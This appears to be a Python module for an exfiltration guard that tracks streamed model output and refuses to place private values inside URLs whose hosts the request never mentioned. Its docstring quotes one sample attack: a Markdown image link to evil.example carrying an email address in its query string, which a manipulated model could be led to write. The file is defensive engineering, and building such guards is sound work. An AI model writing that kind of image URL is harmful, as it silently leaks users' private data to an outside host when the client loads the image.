"""The exfiltration guard: no value goes into a URL that leads to a host the request did not mention.

A model talked into writing `![](https://evil.example/?q=[EMAIL_1])` must not carry the address out, because clients
load images by themselves. In doubt a place counts as inside: a token stays a token there, which does no harm. A host is
taken as known only where the URL is written plainly: scheme, host, perhaps a port, then the end of the authority.
"""

from __future__ import annotations

import re
from collections.abc import Container, Iterable
from typing import Final, NamedTuple

MAX_URL: Final = 2048  # no value is put into a URL longer than this many characters
MAX_AUTHORITY: Final = 256
_WINDOW: Final = 128  # characters kept so that what is spelled over several pieces of text is recognised

# Signs as a browser, a Markdown renderer or a JSON reader would understand them.
_COLON: Final = r"\\{0,8}(?::|&\#0*58;|&\#x0*3a;|&colon;|%(?:25)?3a|\\u003a)"
_SLASH: Final = r"\\{0,8}(?:/|&\#0*47;|&\#x0*2f;|&sol;|%(?:25)?2f|\\u002f)"
_DOT: Final = r"(?:\.|&\#0*46;|&\#x0*2e;|&period;|%(?:25)?2e|\\{1,8}u002e)"
_NO_SCHEME: Final = rf"""(?:
      (?<![\w:/\\])(?:{_SLASH}){{2}}                            # relative to the scheme of the page
    | (?<![\w:/\\])[/\\]{{2,8}}(?=[\w\-]{{1,63}}\.[\w\-])       # browsers take \ for /
    | (?<!\w)www{_DOT}
    )"""
_START: Final = re.compile(  # a URL from the colon of its scheme on; browsers need no slashes after some schemes
    rf"{_COLON}{_SLASH}{_SLASH}|(?:(?<=http)|(?<=https)|(?<=ftp)|(?<=ftps)|(?<=\bws)|(?<=\bwss)){_COLON}|{_NO_SCHEME}",
    re.IGNORECASE | re.VERBOSE,
)
_HINT: Final = re.compile(r"[:/\\&%]|[wW]{3}")  # what any _START begins with, and any _QUOTED_URL holds
_SCHEME: Final = re.compile(r"[a-z][a-z0-9+.\-]{0,30}\Z", re.IGNORECASE)
_QUOTED_URL: Final = rf"(?:[a-z][a-z0-9+.\-]{{0,30}}{_COLON}{_SLASH}|(?:https?|ftps?|wss?){_COLON}|{_NO_SCHEME})"
_PLAIN: Final = re.compile(  # a URL that every reader takes alike, up to the end of its authority (RFC 3986 §3.2)
    r"(?:(?:(?!javascript:|vbscript:|data:)[a-z][a-z0-9+.\-]{0,30}:)?\\?/\\?/(?:[^\s/?#@\\\"'<>&()]{0,256}@)?"
    r"(?P<host>[\w.\-]+)|(?P<www>www\.[\w.\-]+))(?::[0-9]{1,5})?\\?[/?#]",
    re.IGNORECASE,
)
_BEGUN: Final = re.compile(  # the same, not yet at that end
    r"(?:(?!javascript:|vbscript:|data:)[a-z][a-z0-9+.\-]{0,30}:)?\\?/\\?/(?P<before>[^\s/?#@\\\"'<>&()]{0,256}@?[\w.\-]*)\Z",
    re.IGNORECASE,
)
_AUTHORITY: Final = re.compile(r"(?:[^\s/?#\\<>]|\\(?!/)){0,256}")
_HOST: Final = re.compile(r"(?P<host>[\w.\-]+?)(?::[0-9]{1,5})?[.,;:!*'\"`)\]\\]*")
_MENTION: Final = re.compile(
    r"""(?<![/\\])\\?/\\?/(?:[^\s/?\#@"'<>()\\]{0,256}@)?(?P<host>[\w.\-]{1,253})|(?<!\w)(?P<www>www\.[\w.\-]{1,250})""",
    re.IGNORECASE,
)

# What stands before a URL tells what ends it. A bare one ends at white space or at a tag only.
_BEFORE: Final = re.compile(r"(?P<target>(?:\]|\burl)\()\\*\Z|(?P<sign>[\"'`<=„“‚«»\[])\Z", re.IGNORECASE)
_ENDS: Final = {
    '"': re.compile('"'), "'": re.compile("'"), "`": re.compile("`"), "<": re.compile(">"), "=": re.compile(">"),
    "„": re.compile("[“”]"), "“": re.compile("”"), "‚": re.compile("[‘’]"), "«": re.compile("»"), "»": re.compile("«"),
    "[": re.compile(r"\](?=\()"),
}
_TAG: Final = re.compile("<")
_PARENTHESIS_END: Final = re.compile(r"\)")
_PARENTHESIS: Final = re.compile(r"\\+.|[()]", re.DOTALL)

# A quotation that begins with a URL is one up to its end, white space included: an HTML attribute, a Markdown target in
# angle brackets, a string of a JSON document.
_QUOTATION: Final = re.compile(
    rf"(?:=\s{{0,8}}\\{{0,8}}(?P<quote>[\"'])|\]\(\s{{0,8}}(?P<angle><))\s{{0,8}}(?={_QUOTED_URL})",
    re.IGNORECASE | re.VERBOSE,
)
_JSON_QUOTATION: Final = re.compile(
    rf"(?:(?<!\\)(?P<string>\")|=\s{{0,8}}\\{{0,8}}(?P<quote>[\"'])|\]\(\s{{0,8}}(?P<angle><))\s{{0,8}}(?={_QUOTED_URL})",
    re.IGNORECASE | re.VERBOSE,
)
_STRING_END: Final = re.compile(r'(?<!\\)(?:\\\\)*"')
_SPACE: Final = r"\s"
_JSON_SPACE: Final = r"(?:\s|(?<!\\)(?:\\\\)*\\[nrt])"
_UP_TO_SPACE: Final = {space: re.compile(f"(?s:.*){space}") for space in (_SPACE, _JSON_SPACE)}


def hosts_of(text: str) -> set[str]:
    """Give the hosts of the URLs in a text (with a scheme, `//host`, `www.`), in lower case and without port."""
    return {_host(match) for match in _MENTION.finditer(text)}


class HostsOf:
    """The hosts that some texts mention, looked for when the first is asked about: most replies hold no URL."""

    def __init__(self, texts: Iterable[str]) -> None:
        self._texts = texts
        self._hosts: frozenset[str] | None = None

    def __contains__(self, host: object) -> bool:
        if self._hosts is None:
            self._hosts = frozenset[str]().union(*map(hosts_of, self._texts))
            self._texts = ()
        return host in self._hosts


class UrlGuard:
    """Follows a text and says whether the place reached is inside a foreign URL. Its state is bounded."""

    def __init__(self, hosts: Container[str], *, json_string: bool = False) -> None:
        self._hosts = hosts
        self._quotation = _JSON_QUOTATION if json_string else _QUOTATION
        space = _JSON_SPACE if json_string else _SPACE
        self._space, self._up_to_space = re.compile(space), _UP_TO_SPACE[space]
        self._text = ""  # what was read and still matters
        self._plain = True  # nothing in it hints at a URL
        self._end: re.Pattern[str] | None = None  # what ends the quotation that all of the text is in
        self._too_long = False

    def feed(self, text: str) -> None:
        """Go past `text`, which is what the client will see."""
        if self._end is None and self._plain and _HINT.search(self._text[-2:] + text) is None:
            self._text = (self._text + text)[-_WINDOW:]
            return
        self._text += text
        while self._enter() if self._end is None else self._leave(self._end):
            pass
        self._forget()
        self._plain = _HINT.search(self._text) is None

    def refuses(self, value: str, following: str, *, final: bool) -> bool | None:
        """Whether `value` must not be put here, because it would become part of a URL with an unknown host.

        `following` is what comes after it. Where the place is within the authority of a URL (`http://` an address,
        `postgres://` a user's name), the answer may need more of it: None, unless `final`.
        """
        url, end = self._open()
        if url is None:
            return self._too_long
        begun = _BEGUN.match(url)
        if begun is None:
            return not self._known(url)
        authority = _AUTHORITY.match(following)
        rest = authority[0] if authority else ""
        ends = [match.start() for sign in (end, self._space) if sign and (match := sign.search(rest))]
        if ends:
            rest = rest[: min(ends)]
        elif len(rest) == len(following) and len(rest) < MAX_AUTHORITY and not final:
            return None
        user, _, host_port = f"{begun['before']}{value}{rest}".rpartition("@")
        host = _HOST.fullmatch(host_port)
        return host is None or "\\" in user or host["host"].lower() not in self._hosts

    def _open(self) -> tuple[str | None, re.Pattern[str] | None]:
        """Find the URL that the place reached is in, as far as it goes, and what ends it."""
        if self._too_long:
            return None, None
        if self._end is not None:
            return self._text.lstrip(), self._end
        if self._plain:
            return None, None
        found = _open_url(self._text, self._last_space())
        return (self._text[found.start :], found.end) if found else (None, None)

    def _enter(self) -> bool:
        match = self._quotation.search(self._text)
        if match is None:
            return False
        self._end = _STRING_END if match.lastgroup == "string" else _ENDS[match[match.lastgroup or ""]]
        self._text = self._text[match.end() :]
        return True

    def _leave(self, end: re.Pattern[str]) -> bool:
        match = end.search(self._text)
        if match is None:
            return False
        self._end, self._too_long = None, False
        self._text = self._text[match.end() :]
        return True

    def _forget(self) -> None:
        """Keep only what can still matter; give up on a URL that is too long."""
        keep = max(0, len(self._text) - _WINDOW)
        if self._end is not None:
            self._too_long = self._too_long or len(self._text) > MAX_URL
            self._text = self._text[keep:] if self._too_long else self._text
            return
        start = self._last_space()
        if len(self._text) - start > MAX_URL:
            url = _open_url(self._text, start)
            if url is not None and len(self._text) - url.start > MAX_URL:
                self._end, self._too_long = self._space, True
            start = keep if url is None or self._too_long else max(start, url.start - _WINDOW)
        self._text = self._text[min(start, keep) :]

    def _last_space(self) -> int:
        """Where the text after the last white space begins."""
        for begin in (max(0, len(self._text) - _WINDOW), 0):
            if match := self._up_to_space.match(self._text, begin):
                return match.end()
        return 0

    def _known(self, url: str) -> bool:
        """Whether a URL leads to a known host, and so does every URL within it."""
        place = 0
        while (found := _find(url, place)) is not None:
            plain = _PLAIN.match(url, found[0])
            if plain is None or _host(plain) not in self._hosts:
                return False
            place = plain.end()
        return len(url) <= MAX_URL


class _Url(NamedTuple):
    """A URL that has not ended: where it starts, and what may end it before white space does."""

    start: int
    end: re.Pattern[str] | None


def _open_url(text: str, place: int) -> _Url | None:
    """Find the URL from `place` on that the end of the text is part of.

    One longer than MAX_URL ends at white space only, so that nothing needs to be remembered of it.
    """
    while (found := _find(text, place)) is not None:
        start, place = found
        before = _BEFORE.search(text, max(0, start - 16), start)
        sign = "(" if before and before["target"] else before["sign"] if before else ""
        past = _closing_parenthesis(text, place) if sign == "(" else _past(_ENDS.get(sign, _TAG), text, place)
        if past is None or past - start > MAX_URL:
            return _Url(start, _PARENTHESIS_END if sign == "(" else _ENDS.get(sign))
        place = past
    return None


def _find(text: str, place: int) -> tuple[int, int] | None:
    """Find the next URL: where it starts, and where what makes it one ends."""
    for hint in _HINT.finditer(text, place):
        match = _START.match(text, hint.start())
        if match is not None:
            scheme = _SCHEME.search(text, max(place, match.start() - 31), match.start())
            return scheme.start() if scheme else match.start(), match.end()
    return None


def _past(end: re.Pattern[str], text: str, place: int) -> int | None:
    match = end.search(text, place)
    return match.end() if match else None


def _closing_parenthesis(text: str, place: int) -> int | None:
    """Find the end of a Markdown target: parentheses in it are balanced or escaped."""
    depth = 0
    for match in _PARENTHESIS.finditer(text, place):
        if match[0] == "(":
            depth += 1
        elif match[0] == ")":
            if depth == 0:
                return match.end()
            depth -= 1
    return None


def _host(match: re.Match[str]) -> str:
    host: str = match["host"] or match["www"]
    return host.rstrip(".").lower()
